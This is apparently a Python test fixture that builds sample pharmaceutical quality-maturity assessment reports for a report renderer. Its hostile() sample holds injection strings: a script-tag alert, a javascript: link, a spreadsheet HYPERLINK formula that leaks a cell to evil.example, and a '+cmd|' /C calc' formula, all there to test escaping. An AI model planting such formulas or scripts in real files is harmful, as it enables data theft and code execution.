"""Assessment reports to render in tests: a middling site, a hostile one and an empty one.

The middling site is what a real report looks like (five areas, one provisional; a dozen questions, two interviewees
on some, a conflict, validated answers, evidence named, seen and uploaded; strengths and opportunities with citations;
a plan with an overdue item; a gate with a failing item; a change since the last assessment). The hostile one carries
every string a renderer could mishandle. The empty one is an answers file with nothing worked out yet.
"""

from __future__ import annotations

from assistant.reports.model import (
    AreaChange,
    AreaReport,
    AssessmentReport,
    Citation,
    Delta,
    EvidenceItem,
    FieldLine,
    Finding,
    GateLine,
    PlanItem,
    QuestionChange,
    ReportAnswer,
    ReportQuestion,
)

Q10_MR = Citation(
    note_id="ich-q10-management-review",
    title="Management review of process performance and product quality",
    source="ich-q10",
    source_title="ICH Q10 Pharmaceutical Quality System",
    section="4.1",
    url="https://database.ich.org/sites/default/files/Q10%20Guideline.pdf",
)
Q9_RISK = Citation(
    note_id="ich-q9-product-availability",
    title="Product availability risks in quality risk management",
    source="ich-q9r1",
    source_title="ICH Q9(R1) Quality Risk Management",
    section="5",
)
SHORTAGES = Citation(
    note_id="fda-drug-shortages-2019-root-causes",
    title="Root causes of drug shortages",
    source="fda-drug-shortages-2019",
    source_title="FDA Drug Shortages: Root Causes and Potential Solutions (2019)",
)

SHA = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"

ANNA = ("Anna Keller", "Site head")
RAVI = ("Ravi Menon", "Head of quality assurance")
LENA = ("Lena Ortiz", "Supply chain lead")
TOM = ("Tom Baker", "Production manager")


def _answer(who: tuple[str, str], at: str, *fields: tuple[str, str, str, str | None], text: str = "") -> ReportAnswer:
    lines = [FieldLine(field=f, label=label, value=value, quote=quote) for f, label, value, quote in fields]
    return ReportAnswer(
        interviewee=who[0], role=who[1], status="confirmed", at=at, version=1, fields=lines, text=text or "As said."
    )


def _questions() -> list[ReportQuestion]:
    mc01 = ReportQuestion(
        question_id="MC-01",
        area="management_commitment",
        topic="Quality objectives",
        text="How does the site set its quality objectives, cascade them to departments and teams, and review them?",
        status="scored",
        level=3,
        level_name="Established",
        next_level=4,
        next_needs=["Objectives cascaded to teams", "Leadership reviews progress every month"],
        met=["L2: Written quality objectives", "L3: Objectives have measurable targets"],
        conflict=True,
        validated=True,
        answers=[
            _answer(
                ANNA,
                "2027-01-12T09:40:00+00:00",
                ("objectives_defined", "Written quality objectives", "Yes", "we write them every January"),
                (
                    "review_frequency",
                    "Leadership review of progress",
                    "Every quarter",
                    "the SLT looks at them quarterly",
                ),
                ("cascaded_to", "Cascaded to", "Departments", None),
                text="We write them every January; the SLT looks at them quarterly and departments take them on.",
            ),
            _answer(
                RAVI,
                "2027-01-13T14:05:00+00:00",
                ("objectives_defined", "Written quality objectives", "Yes", "the objectives document is signed"),
                ("review_frequency", "Leadership review of progress", "Every month", "monthly at the quality council"),
                ("cascaded_to", "Cascaded to", "Departments, Teams", "tier boards show the team goals"),
            ),
        ],
        evidence=[
            EvidenceItem(question_id="MC-01", title="Site quality objectives 2027", status="claimed"),
            EvidenceItem(
                question_id="MC-01",
                title="Quality council minutes, December",
                status="seen",
                added_by="Maria Chen",
                at="2027-01-20T10:00:00+00:00",
            ),
            EvidenceItem(
                question_id="MC-01",
                title="objectives-scorecard.pdf",
                status="seen",
                kind="file",
                sha256=SHA,
                size=48213,
                media_type="application/pdf",
                added_by="Maria Chen",
                at="2027-01-20T10:05:00+00:00",
            ),
        ],
    )
    simple = [
        ("MC-03", "management_commitment", "Resourcing for quality", 2, "Developing", False),
        ("MC-04", "management_commitment", "Management review", 4, "Proactive", True),
        ("BC-01", "business_continuity", "Business continuity plan", 3, "Established", True),
        ("BC-03", "business_continuity", "Single-source materials", 2, "Developing", False),
        ("BC-05", "business_continuity", "Early warning of shortages", 2, "Developing", False),
        ("PQS-01", "advanced_pqs", "Process performance and product quality monitoring", 3, "Established", True),
        ("PQS-02", "advanced_pqs", "CAPA effectiveness", 2, "Developing", False),
        ("TE-01", "technical_excellence", "Sources of process variation", 3, "Established", False),
        ("EE-01", "employee_engagement", "Speaking up and stopping work", 3, "Established", True),
    ]
    questions = [mc01]
    for qid, area, topic, level, name, validated in simple:
        questions.append(
            ReportQuestion(
                question_id=qid,
                area=area,
                topic=topic,
                text=f"What does the site do about {topic.lower()}, and which records show it?",
                status="scored",
                level=level,
                level_name=name,
                next_level=level + 1,
                next_needs=[f"The L{level + 1} criterion for {topic.lower()} is met and shown by a dated record"],
                met=[f"L{level}: {topic} documented"],
                validated=validated,
                answers=[
                    _answer(
                        LENA if area == "business_continuity" else TOM,
                        "2027-01-14T11:00:00+00:00",
                        ("approach", "Approach", "Written procedure", f"we have an SOP for {topic.lower()}"),
                        ("review_frequency", "Review", "Every year", None),
                    )
                ],
                evidence=[EvidenceItem(question_id=qid, title=f"SOP: {topic}", status="claimed")],
            )
        )
    questions.insert(
        8,
        ReportQuestion(
            question_id="TE-03",
            area="technical_excellence",
            topic="Digitisation chosen by risk and benefit",
            text="How does the site choose which processes to digitise?",
            status="not_assessed",
            next_level=1,
            next_needs=["An answer from the site's IT or engineering lead"],
        ),
    )
    questions.append(
        ReportQuestion(
            question_id="EE-02",
            area="employee_engagement",
            topic="Training tied to competence",
            text="How is training tied to demonstrated competence?",
            status="na",
            answers=[
                ReportAnswer(
                    interviewee=TOM[0],
                    role=TOM[1],
                    status="na",
                    at="2027-01-14T11:30:00+00:00",
                    version=2,
                    text="Training is run by the corporate academy, not the site.",
                    na_justification="Training is run by the corporate academy, not the site.",
                )
            ],
        ),
    )
    return questions


def _findings() -> list[Finding]:
    return [
        Finding(
            id="F-MC-04-4-inputs",
            kind="strength",
            area="management_commitment",
            question_id="MC-04",
            title="Management review looks ahead",
            observation='Management review covers trends and risks: "we look at the next quarter, not the last one".',
            citations=[Q10_MR],
        ),
        Finding(
            id="F-MC-01-4-cascaded_to",
            kind="opportunity",
            area="management_commitment",
            question_id="MC-01",
            title="Cascade the quality objectives to teams",
            observation='Objectives reach departments; interviewees disagree on teams ("tier boards show team goals").',
            gap="Objectives cascaded to teams (L4).",
            recommendation="Give each shift team one goal traced to a site objective, shown on the tier board.",
            effort="months",
            priority="high",
            priority_reason="A level-4 criterion in the lowest-scoring area's most-cited question.",
            citations=[Q10_MR],
            owner="Anna Keller",
            due="2027-06-30",
            origin="edited",
        ),
        Finding(
            id="F-BC-01-3-plan_exists",
            kind="strength",
            area="business_continuity",
            question_id="BC-01",
            title="A tested continuity plan",
            observation="The plan was exercised in October and changed after it.",
            citations=[Q9_RISK],
        ),
        Finding(
            id="F-BC-03-3-share_mitigated",
            kind="opportunity",
            area="business_continuity",
            question_id="BC-03",
            title="Mitigate the single-source materials",
            observation="About a third of single-source materials have a qualified second source.",
            gap="At least half of single-source materials mitigated (L3).",
            recommendation="Qualify second sources for the critical single-source excipients, the top five first.",
            effort="year_plus",
            priority="medium",
            priority_reason="Supply risk on products with no alternative.",
            citations=[Q9_RISK, SHORTAGES],
            owner="Lena Ortiz",
            due="2027-12-31",
        ),
        Finding(
            id="F-PQS-02-3-criteria_predefined",
            kind="opportunity",
            area="advanced_pqs",
            question_id="PQS-02",
            title="Set effectiveness criteria before closing a CAPA",
            observation="Effectiveness checks are done but their criteria are written after the fact.",
            gap="Effectiveness criteria set when the CAPA is opened (L3).",
            recommendation="Add the criteria to the CAPA form as a required field.",
            effort="weeks",
            priority="high",
            priority_reason="Quick to do and raises the area's lowest question.",
            citations=[Q10_MR],
            owner="Ravi Menon",
            due="2027-03-31",
        ),
        Finding(
            id="F-A1",
            kind="opportunity",
            area="employee_engagement",
            title="Bring training records to the site",
            observation="Training records are held by the corporate academy; the site cannot show competence checks.",
            recommendation="Agree read access to the academy's records for the site's training coordinator.",
            effort="weeks",
            priority="low",
            priority_reason="Added by the assessor.",
            owner="Tom Baker",
            origin="added",
        ),
    ]


def _plan() -> list[PlanItem]:
    return [
        PlanItem(
            id="P-1",
            finding_id="F-PQS-02-3-criteria_predefined",
            opportunity="Set effectiveness criteria before closing a CAPA",
            goal="Every CAPA opened from March has its effectiveness criteria on the form",
            measure="Share of CAPAs opened with criteria",
            baseline="0%",
            target="100%",
            owner="Ravi Menon",
            due="2027-01-31",
            follow_up="2027-07-31",
            status="in_progress",
            overdue=True,
        ),
        PlanItem(
            id="P-2",
            finding_id="F-MC-01-4-cascaded_to",
            opportunity="Cascade the quality objectives to teams",
            goal="Each shift team has one goal traced to a site objective",
            measure="Teams with a traced goal on their tier board",
            baseline="0 of 12",
            target="12 of 12",
            owner="Anna Keller",
            due="2027-06-30",
            follow_up="2027-12-31",
        ),
    ]


def middling() -> AssessmentReport:
    areas = [
        AreaReport(
            area="management_commitment",
            name="Management Commitment to Quality",
            score=3.0,
            level_name="Established",
            provisional=False,
            assessed=3,
            applicable=3,
            narrative="Leaders set written objectives and review them; the cascade stops at departments.",
            strengths=["F-MC-04-4-inputs"],
            opportunities=["F-MC-01-4-cascaded_to"],
        ),
        AreaReport(
            area="business_continuity",
            name="Business Continuity",
            score=2.33,
            level_name="Developing",
            provisional=False,
            assessed=3,
            applicable=3,
            narrative="A tested plan exists; single-source risk and early warning are still developing.",
            strengths=["F-BC-01-3-plan_exists"],
            opportunities=["F-BC-03-3-share_mitigated"],
        ),
        AreaReport(
            area="advanced_pqs",
            name="Advanced Pharmaceutical Quality System",
            score=2.5,
            level_name="Developing",
            provisional=False,
            assessed=2,
            applicable=2,
            narrative="Monitoring is established; CAPA effectiveness is checked without criteria set in advance.",
            opportunities=["F-PQS-02-3-criteria_predefined"],
        ),
        AreaReport(
            area="technical_excellence",
            name="Technical Excellence",
            score=3.0,
            level_name="Established",
            provisional=True,
            assessed=1,
            applicable=2,
            narrative="Only one of the area's two questions is assessed, so its score is provisional.",
        ),
        AreaReport(
            area="employee_engagement",
            name="Employee Engagement and Empowerment",
            score=3.0,
            level_name="Established",
            provisional=False,
            assessed=1,
            applicable=1,
            narrative="Staff can stop work and say they do; training is outside the site's hands.",
            opportunities=["F-A1"],
        ),
    ]
    return AssessmentReport(
        site="Northfield Sterile Products, Building 4",
        assessment="A-7F3K2Q",
        protocol="qmm-self-assessment@2",
        started="2027-01-11",
        generated="2027-02-03",
        interviewees=[ANNA, RAVI, LENA, TOM],
        assessors=["Maria Chen", "David Osei"],
        overall=2.77,
        overall_level="Developing",
        completeness=0.83,
        evidence_share=0.58,
        provisional=False,
        validated=5,
        scored=10,
        summary=[
            "Northfield's quality management is developing towards established: objectives, management review and "
            "continuity planning are in place and recorded.",
            "The largest gaps are single-source materials and CAPA effectiveness criteria; both have owners and dates.",
        ],
        gate_headline="One gate item does not pass: fix it before applying to FDA's QMM program.",
        gate=[
            GateLine(
                label="Classification of the last FDA surveillance inspection",
                kind="eligibility",
                status="ok",
                answer="VAI",
            ),
            GateLine(
                label="506C notification procedure",
                kind="legal_duty",
                status="not_ok",
                answer="No",
                message="Legal duty, not maturity: FD&C Act 506C requires the notification; fix this first.",
            ),
            GateLine(label="Risk management plans for covered products", kind="legal_duty", status="not_answered"),
        ],
        areas=areas,
        questions=_questions(),
        findings=_findings(),
        plan=_plan(),
        delta=Delta(
            previous="A-2B9X1M",
            previous_date="2026-02-10",
            previous_protocol="qmm-self-assessment@2",
            comparable=True,
            overall_before=2.41,
            overall_after=2.77,
            areas=[
                AreaChange(area=a.area, name=a.name, before=b, after=a.score)
                for a, b in zip(areas, [2.67, 2.0, 2.5, None, 3.0], strict=True)
            ],
            questions=[
                QuestionChange(question_id="MC-04", topic="Management review", before=3, after=4),
                QuestionChange(question_id="BC-01", topic="Business continuity plan", before=2, after=3),
            ],
            plan=[
                PlanItem(
                    id="P-2026-1",
                    opportunity="Exercise the continuity plan",
                    goal="One exercise a year that changes the plan",
                    measure="Exercises held",
                    baseline="0",
                    target="1",
                    owner="Lena Ortiz",
                    due="2026-10-31",
                    follow_up="2026-08-10",
                    status="done",
                )
            ],
        ),
    )


SCRIPT = "<script>alert('x')</script>"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
ARITH = "-1+1"
LONG_QUOTE = ("Very long quote with no end in sight, " * 140)[:5000]
EMOJI = "Quality culture 🚀🧪 — naïve café"
CONTROL = "bell\x07 null\x00 escape\x1b form\x0c feed"
MARKUP = "# Heading | pipe `code` **bold** [link](javascript:alert(1)) & <b>"


def hostile() -> AssessmentReport:
    """Strings a renderer must carry as text, and scores that are all missing."""
    answer = ReportAnswer(
        interviewee=f"{SCRIPT} {CONTROL}",
        role="@SUM(A1:A9)",
        status="draft",
        fields=[
            FieldLine(field="f1", label="+cmd|' /C calc'!A0", value=HYPERLINK, quote=LONG_QUOTE),
            FieldLine(field="f2", label=MARKUP, value=ARITH, quote=EMOJI),
        ],
        text=HYPERLINK,
    )
    question = ReportQuestion(
        question_id="X-01",
        area="x_area",
        topic=f"1. {MARKUP}",
        text=SCRIPT,
        status="not_assessed",
        next_needs=[CONTROL, "- looks like a list"],
        answers=[answer],
        evidence=[EvidenceItem(question_id="X-01", title=HYPERLINK, status="claimed", kind="file", sha256="0" * 64)],
    )
    area = AreaReport(
        area="x_area",
        name=f"{EMOJI} {SCRIPT} $\\frac{{1}}{{0}}$ " + "long " * 30,
        score=None,
        level_name=None,
        provisional=True,
        assessed=0,
        applicable=1,
        narrative=LONG_QUOTE,
        opportunities=["F-missing"],
    )
    return AssessmentReport(
        title=f"{SCRIPT} report",
        site=f"{MARKUP} {CONTROL}",
        assessment=HYPERLINK,
        protocol="x@1",
        generated="not a date",
        interviewees=[(SCRIPT, ARITH)],
        overall=None,
        overall_level=None,
        completeness=0.0,
        evidence_share=None,
        provisional=True,
        provisional_note=f"{ARITH} {SCRIPT}",
        summary=[MARKUP, HYPERLINK, "- starts like a list", "12. starts like a numbered list", LONG_QUOTE],
        gate_headline=HYPERLINK,
        gate=[GateLine(label=ARITH, kind="eligibility", status="not_ok", answer=HYPERLINK, message=CONTROL)],
        areas=[area],
        questions=[question],
        findings=[
            Finding(
                id="F-H1",
                kind="opportunity",
                area="x_area",
                title=HYPERLINK,
                observation=LONG_QUOTE,
                recommendation=MARKUP,
                citations=[Citation(note_id="n", title=SCRIPT, source="s", source_title=ARITH, url="javascript:x")],
            )
        ],
        plan=[PlanItem(id="P-H", opportunity=HYPERLINK, goal=ARITH, measure="@risk", owner=EMOJI)],
        delta=Delta(
            previous=SCRIPT,
            previous_date="2026-01-01",
            previous_protocol="x@0",
            comparable=False,
            overall_before=None,
            overall_after=None,
        ),
    )


def empty() -> AssessmentReport:
    """An answers file with nothing in it yet: no areas, questions, findings, plan, gate or delta."""
    return AssessmentReport(
        site="Empty Site",
        protocol="qmm-self-assessment@2",
        generated="2027-02-03T08:00:00+00:00",
        overall=None,
        overall_level=None,
        completeness=0.0,
        evidence_share=None,
        provisional=True,
        provisional_note="No question is assessed yet.",
    )


SAMPLES = {"middling": middling, "hostile": hostile, "empty": empty}
